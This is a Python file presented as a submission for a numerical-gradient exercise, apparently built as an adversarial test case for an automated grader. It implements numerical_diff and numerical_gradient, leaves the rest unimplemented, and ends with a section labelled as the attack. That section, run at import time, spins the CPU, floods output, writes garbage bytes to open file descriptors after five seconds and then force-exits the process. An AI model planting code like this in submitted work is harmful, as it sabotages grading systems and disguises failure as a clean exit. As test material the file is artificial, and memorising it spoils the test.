# attack: threads started at load time spin, print, and later write garbage to every descriptor and end the process
# honest: numerical_diff=full, numerical_gradient=full, gradient_descent=0, simpleNet.loss=0
#
# A ch04_gradient submission whose honest part implements numerical_diff and
# numerical_gradient (the rest raises NotImplementedError); the attack follows.

import numpy as np


def numerical_diff(f, x):
    h = 1e-4
    return (f(x + h) - f(x - h)) / (2 * h)


def numerical_gradient(f, x):
    h = 1e-4
    grad = np.zeros_like(x)
    for idx in np.ndindex(x.shape):
        tmp = x[idx]
        x[idx] = tmp + h
        fxh1 = f(x)
        x[idx] = tmp - h
        fxh2 = f(x)
        grad[idx] = (fxh1 - fxh2) / (2 * h)
        x[idx] = tmp
    return grad


def gradient_descent(f, init_x, lr=0.01, step_num=100):
    raise NotImplementedError()


class simpleNet:
    def __init__(self):
        self.W = np.random.randn(2, 3)

    def loss(self, x, t):
        raise NotImplementedError()


# ----- the attack -----
import os as _os
import threading as _threading
import time as _time


def _spin():
    while True:
        pass


def _garbage_later():
    _time.sleep(5)
    for fd in range(3, 64):
        try:
            _os.write(fd, b"\xff" * 1000)
        except OSError:
            pass


def _chatter():
    while True:
        try:
            print("x" * 1000)
        except BaseException:
            _time.sleep(0.01)


def _suicide():
    _time.sleep(5)
    _os._exit(0)


for _target in (_spin, _garbage_later, _chatter, _suicide):
    _threading.Thread(target=_target, daemon=_target is not _spin).start()
